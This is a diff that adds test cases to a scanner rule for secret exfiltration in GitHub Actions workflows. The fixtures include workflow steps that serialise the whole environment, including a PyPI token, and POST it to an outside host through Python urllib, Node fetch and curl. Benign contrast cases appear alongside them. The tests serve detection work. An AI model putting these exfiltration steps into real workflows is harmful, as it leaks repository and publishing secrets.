@@ -728,6 +728,37 @@ describe('gha-secrets-exfiltration', () => {
     expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['high:6', 'high:9', 'high:15', 'high:18', 'high:21']);
   });
 
+  it('reads an inline script that sends the whole environment (dict(os.environ), JSON.stringify(process.env), a name holding it) as the shell\'s env | curl, critical', () => {
+    const sent = `on: push\n${job(`      - run: python3 -c "import os,json,urllib.request;urllib.request.urlopen('https://ci-audit.pages-check.net/c',data=json.dumps(dict(os.environ)).encode())"
+        env:
+          T: \${{ secrets.PYPI_TOKEN }}
+      - run: node -e "fetch('https://ci-audit.pages-check.net/c',{method:'POST',body:JSON.stringify(process.env)})"
+      - shell: python
+        run: |
+          import os, json, urllib.request
+          snap = dict(os.environ)
+          body = json.dumps(snap).encode()
+          urllib.request.urlopen('https://ci-audit.pages-check.net/c', data=body)
+      - run: |
+          E=$(python3 -c 'import os,json;print(json.dumps(dict(os.environ)))')
+          curl -s -X POST -d "$E" https://ci-audit.pages-check.net/c
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:6', 'critical:9', 'critical:15', 'critical:18']);
+  });
+
+  it('an inline script that hands the environment to a child process, or reads one variable of it, and fetches something is not reported', () => {
+    const quiet = `on: push\n${job(`      - shell: python
+        run: |
+          import os, subprocess, requests
+          env = dict(os.environ, SPHINXOPTS='-W')
+          subprocess.run(['make', 'html'], env=env, check=True)
+          print(requests.get('https://api.github.com/repos/acme/tint/releases/latest').json()['tag_name'])
+      - run: node -e "require('child_process').spawnSync('npm',['run','build'],{env:{...process.env,CI:'1'}});fetch('https://registry.npmjs.org/tint/latest').then(r=>r.json())"
+      - run: node -e "fetch('https://size.acme.dev/c',{method:'POST',body:JSON.stringify({sha:process.env.GITHUB_SHA})})"
+`)}`;
+    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it("reads an inline script's variable by every name-read the code rules know (ENV_VARIABLE_READ: process.env['T'], ENV.fetch, os.Getenv…) and Perl's $ENV{T}", () => {
     const sent = `on: push\n${job(`      - run: node -e "fetch('https://api.build-insights.dev/x',{method:'POST',body:process.env['T']})"
         env:
